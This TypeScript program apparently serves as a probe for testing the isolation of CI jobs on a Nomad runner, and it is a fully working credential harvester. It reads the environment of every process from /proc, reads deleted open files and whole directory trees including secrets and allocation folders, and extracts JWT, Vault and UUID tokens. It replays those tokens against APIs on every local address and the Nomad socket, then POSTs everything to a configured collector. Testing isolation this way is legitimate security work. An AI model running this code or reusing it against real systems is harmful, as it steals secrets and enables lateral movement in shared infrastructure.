import { readFileSync, readdirSync, readlinkSync, statSync } from "node:fs";
import { type RequestOptions, request } from "node:http";
import { networkInterfaces } from "node:os";
import { join } from "node:path";

/**
 * What a workflow job that looks for secrets does in its step: reads its environment, every file and process that it
 * can, and asks every API that it can reach with every token that it has found. All of it goes to the collector of the
 * live run. A program of its own: it imports nothing of this project.
 */

/** An API to be asked at a port of every address there is, or at a socket of the task. */
interface Api {
  readonly name: string;
  /** null: Nomad's socket in the task's secrets. */
  readonly port: number | null;
  /** Headers that take a token. */
  readonly headers: readonly string[];
  readonly questions: readonly { readonly method: string; readonly path: string }[];
}

/** What it is told, as JSON in the variable PROBE. */
interface Orders {
  /** Origin to which everything goes. */
  readonly collector: string;
  /** Directories to read besides its own. */
  readonly directories: readonly string[];
  readonly apis: readonly Api[];
}

/** What is larger holds a program or a job's own output, and is told of as skipped. */
const MAX_FILE_BYTES = 2_000_000;
/** Of one directory: a machine's temporary directory may hold anything. */
const MAX_DIRECTORY_BYTES = 100_000_000;
const MAX_ENTRIES = 30_000;
const MAX_TOKENS = 60;
const ASK_MS = 3_000;
const MAX_ANSWER_BYTES = 1_000_000;

const orders = JSON.parse(process.env["PROBE"] ?? "{}") as Orders;
const tokens = new Set<string>();
const seen = new Set<string>();
const counts = { files: 0, bytes: 0, unreadable: 0, skipped: 0, processes: 0 };

async function main(): Promise<void> {
  const environment = Object.entries(process.env).map(([name, value]) => `${name}=${String(value)}`);
  const own = environment.filter((line) => !line.startsWith("PROBE="));
  await send("environment", Buffer.from(own.join("\0")), true);
  await readProcesses();
  for (const directory of ownDirectories()) await readBelow(directory, true);
  for (const directory of orders.directories) await readBelow(directory, false);
  const answers: object[] = [];
  for (const api of orders.apis) answers.push(...(await askApi(api)));
  await post("/report", Buffer.from(JSON.stringify({ counts, tokens: tokens.size, answers })));
}

/** The nearest first: with a driver that isolates, the allocation's parent is the whole chroot. */
function ownDirectories(): readonly string[] {
  const names = ["RUNNER_TEMP", "NOMAD_TASK_DIR", "NOMAD_SECRETS_DIR", "HOME", "TMPDIR", "NOMAD_ALLOC_DIR"];
  const directories = names.map((name) => process.env[name] ?? "").filter((value) => value !== "");
  const allocation = process.env["NOMAD_ALLOC_DIR"] ?? "";
  return allocation === "" ? directories : [...directories, join(allocation, "..")];
}

/** @param mine whether what looks like a token there is worth a try */
async function send(source: string, bytes: Buffer, mine: boolean): Promise<void> {
  if (bytes.length === 0) return;
  if (mine) collectTokens(bytes.toString("latin1"));
  await post(`/piece?source=${encodeURIComponent(source)}`, bytes);
}

function collectTokens(text: string): void {
  const patterns = [
    /eyJ[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}/g,
    /\b(?:hvs|hvb|s|b)\.[\w-]{20,}/g,
    /\b[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}\b/g,
  ];
  for (const pattern of patterns)
    for (const [found] of text.matchAll(pattern)) if (tokens.size < MAX_TOKENS) tokens.add(found);
}

/** Command line and environment of every process, and its files as /proc shows them. */
async function readProcesses(): Promise<void> {
  for (const pid of listed("/proc").filter((name) => /^\d+$/.test(name))) {
    counts.processes += 1;
    for (const name of ["cmdline", "environ"]) {
      const bytes = read(`/proc/${pid}/${name}`);
      // What this program was told is no find.
      if (bytes !== null && pid !== String(process.pid) && !bytes.includes("PROBE="))
        await send(`/proc/*/${name}`, bytes, name === "environ");
    }
    for (const descriptor of listed(`/proc/${pid}/fd`)) {
      const target = linkOf(`/proc/${pid}/fd/${descriptor}`);
      if (target.startsWith("/") && target.includes("(deleted)")) {
        const bytes = read(`/proc/${pid}/fd/${descriptor}`);
        if (bytes !== null) await send("/proc/*/fd of a deleted file", bytes, true);
      }
    }
  }
}

async function readBelow(root: string, mine: boolean): Promise<void> {
  const end = counts.bytes + MAX_DIRECTORY_BYTES;
  const queue = [root];
  for (let entries = 0; queue.length > 0 && entries < MAX_ENTRIES && counts.bytes < end; entries += 1) {
    const path = queue.shift() ?? "";
    if (seen.has(path)) continue;
    seen.add(path);
    const kind = kindOf(path);
    if (kind === "directory") queue.push(...listed(path).map((name) => join(path, name)));
    if (kind !== "file") continue;
    const bytes = read(path);
    if (bytes === null) counts.unreadable += 1;
    else await send(path, bytes, mine);
  }
  counts.skipped += queue.length;
}

/** Links are not followed: what they lead to is found where it is. */
function kindOf(path: string): "file" | "directory" | "other" {
  try {
    const found = statSync(path);
    if (linkOf(path) !== "") return "other";
    if (found.isDirectory()) return "directory";
    if (!found.isFile()) return "other";
    if (found.size <= MAX_FILE_BYTES) return "file";
    counts.skipped += 1;
  } catch {
    counts.unreadable += 1;
  }
  return "other";
}

function linkOf(path: string): string {
  try {
    return readlinkSync(path);
  } catch {
    return "";
  }
}

function listed(directory: string): readonly string[] {
  try {
    return readdirSync(directory);
  } catch {
    counts.unreadable += 1;
    return [];
  }
}

function read(path: string): Buffer | null {
  try {
    const bytes = readFileSync(path);
    counts.files += 1;
    counts.bytes += bytes.length;
    return bytes;
  } catch {
    return null;
  }
}

/** Without a token, and with each that was found in each of the headers. */
async function askApi({ name, port, headers, questions }: Api): Promise<object[]> {
  const answers: object[] = [];
  for (const target of targetsOf(port)) {
    for (const { method, path } of questions) {
      const tries = [
        {},
        ...headers.flatMap((header) => [...tokens].map((token) => ({ [header]: credential(header, token) }))),
      ];
      for (const given of tries) {
        const { status, body } = await ask({ ...target.options, method, path, headers: given });
        answers.push({
          api: name,
          at: target.at,
          method,
          path,
          token: Object.keys(given).length > 0,
          status,
          empty: isEmpty(body),
        });
        await send(`${name} at ${target.at}: ${method} ${path}`, body, false);
        // Nobody listens there.
        if (status === 0) break;
      }
    }
  }
  return answers;
}

function credential(header: string, token: string): string {
  return header === "Authorization" ? `Bearer ${token}` : token;
}

function isEmpty(body: Buffer): boolean {
  return ["", "[]", "{}", "null"].includes(body.toString("utf8").trim());
}

function targetsOf(
  port: number | null,
): readonly { readonly at: string; readonly options: RequestOptions }[] {
  if (port === null) {
    const socketPath = join(process.env["NOMAD_SECRETS_DIR"] ?? "", "api.sock");
    return [{ at: "secrets/api.sock", options: { socketPath } }];
  }
  const addresses = Object.values(networkInterfaces()).flatMap((list) =>
    (list ?? []).map(({ address }) => address),
  );
  return [...new Set(["127.0.0.1", ...addresses])].map((host) => ({
    at: `${host}:${String(port)}`,
    options: { host, port },
  }));
}

function ask(options: RequestOptions): Promise<{ readonly status: number; readonly body: Buffer }> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    let length = 0;
    let status = 0;
    const end = (): void => {
      resolve({ status, body: Buffer.concat(chunks) });
    };
    const sent = request({ ...options, timeout: ASK_MS }, (answer) => {
      status = answer.statusCode ?? 0;
      answer.on("data", (chunk: Buffer) => {
        chunks.push(chunk);
        length += chunk.length;
        if (length > MAX_ANSWER_BYTES) sent.destroy();
      });
      answer.on("close", end);
    });
    // A stream has no end of its own.
    const stop = setTimeout(() => sent.destroy(), ASK_MS);
    sent.on("error", end);
    sent.on("close", () => {
      clearTimeout(stop);
      end();
    });
    sent.end(options.method === "POST" ? "{}" : undefined);
  });
}

async function post(path: string, body: Buffer): Promise<void> {
  const { hostname: host, port } = new URL(orders.collector);
  await new Promise<void>((resolve, reject) => {
    const sent = request(
      { host, port, path, method: "POST", headers: { "Content-Length": body.length } },
      (answer) => {
        answer.resume();
        answer.on("end", resolve);
      },
    );
    sent.on("error", reject);
    sent.end(body);
  });
}

main().then(
  () => process.exit(0),
  (error: unknown) => {
    console.error(String(error));
    process.exit(1);
  },
);
